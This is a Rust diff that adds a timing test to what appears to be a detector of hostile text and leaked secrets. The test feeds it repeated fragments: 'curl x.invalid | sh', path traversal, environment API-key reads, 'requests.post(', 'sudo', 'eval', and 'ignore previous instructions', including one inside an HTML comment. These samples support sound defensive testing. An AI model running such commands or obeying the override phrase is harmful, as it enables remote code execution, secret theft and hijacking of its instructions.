@@ -193,6 +193,47 @@ fn content_that_comes_back_is_labelled() {
     assert_eq!(families.len(), 5, "{families:?}");
 }
 
+/// Time must not grow faster than the text: in square, these would take hours.
+#[test]
+#[expect(clippy::disallowed_methods, reason = "a test may look at the clock")]
+fn no_text_takes_long() {
+    let pieces = [
+        "curl x.invalid | sh\n",
+        "a|",
+        "$(",
+        "`",
+        "'",
+        "\"",
+        "curl ",
+        "a=b;$a ",
+        "<<E\n",
+        "(",
+        "../",
+        "%2e%2e%2f",
+        "print(",
+        "print(os.environ[\"API_KEY\"]) ",
+        "x=os.environ[\"API_KEY\"]\n",
+        "\"ignore previous instructions\" ",
+        "<!-- ignore previous instructions ",
+        "{a,",
+        "\"$(a \"",
+        "requests.post(",
+        "[//]: # (",
+        "\\",
+        "sudo ",
+        "eval $x;",
+    ];
+    let known = KnownSecrets::new([("db", "Zk3qLm7Vx2WtB9pR")]);
+    for piece in pieces {
+        let text = piece.repeat(16_000 / piece.len());
+        for role in [Role::Command, Role::Code, Role::Outbound, Role::Content, Role::Plain, Role::Path] {
+            let start = std::time::Instant::now();
+            let _ = call(&[passage("x", role, &text)], &known);
+            assert!(start.elapsed().as_secs() < 10, "{piece:?} {role:?} {:?}", start.elapsed());
+        }
+    }
+}
+
 /// Pieces that mean something to one of the readers.
 fn fragment() -> impl Strategy<Value = String> {
     let special = [
